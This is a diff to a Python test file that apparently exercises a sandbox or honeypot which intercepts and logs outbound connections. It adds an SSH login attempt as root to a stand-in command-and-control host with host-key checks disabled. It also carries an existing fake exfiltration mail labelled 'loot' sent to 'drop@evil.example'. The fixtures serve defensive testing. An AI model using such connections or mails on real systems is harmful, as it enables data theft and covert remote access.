@@ -90,6 +90,8 @@ m.login("imapuser", "imap pass")
 open("imap.select", "w").write(repr(m.select("INBOX")))
 m.logout()
 ' ; echo $? > imap.rc
+timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@c2.example true \
+    </dev/null 2>ssh.err; echo $? > ssh.rc
 """
 MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
 SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'
@@ -285,3 +287,13 @@ def test_imap_login_is_logged_and_the_inbox_is_empty(run):
     assert rc(work, "imap") == 0 and (work / "imap.select").read_text() == "('OK', [b'0'])"
     login = records_of(records, "imap")
     assert login and login[0]["user"] == "imapuser" and login[0]["password"] == "imap pass"
+
+
+def test_ssh_in_batch_mode_exits_within_5_s_with_the_banner_logged(run):
+    work, records = run
+    err = (work / "ssh.err").read_text()
+    assert rc(work, "ssh") == 255 and "Permission denied" in err, err  # not 124: timeout(1) did not kill it
+    assert "remote software version OpenSSH_9.2p1" in err
+    rec = records_of(records, "ssh")
+    assert rec and rec[0]["client_version"].startswith("SSH-2.0-OpenSSH") and rec[0]["logins"] == []
+    assert rec[0]["original_destination"].endswith(":22")
